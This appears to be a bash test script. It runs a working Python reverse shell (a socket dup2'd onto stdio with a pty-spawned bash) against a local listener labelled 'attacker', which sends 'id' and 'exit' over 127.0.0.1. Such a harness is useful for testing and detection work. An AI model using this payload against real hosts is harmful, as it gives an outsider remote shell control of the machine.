#!/bin/bash
# A Python reverse shell: socket, dup2 onto 0/1/2, then a pty-spawned bash (the shell's own stdio is a pty).
set -eu
port=19999
ready=$(mktemp -u)
python3 - "$port" "$ready" <<'PY' &
import socket, sys, time
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
l.bind(('127.0.0.1', int(sys.argv[1]))); l.listen(1)
open(sys.argv[2], 'w').close()
c, _ = l.accept(); time.sleep(1); c.sendall(b'id\nexit\n'); time.sleep(2); c.close()
PY
attacker=$!
for i in $(seq 150); do [ -e "$ready" ] && break; sleep 0.2; done
rm -f "$ready"
timeout 20 python3 -c "
import socket, os, pty
s = socket.create_connection(('127.0.0.1', $port))
for fd in (0, 1, 2): os.dup2(s.fileno(), fd)
pty.spawn('/bin/bash')" >/dev/null 2>&1 || true
wait $attacker || true
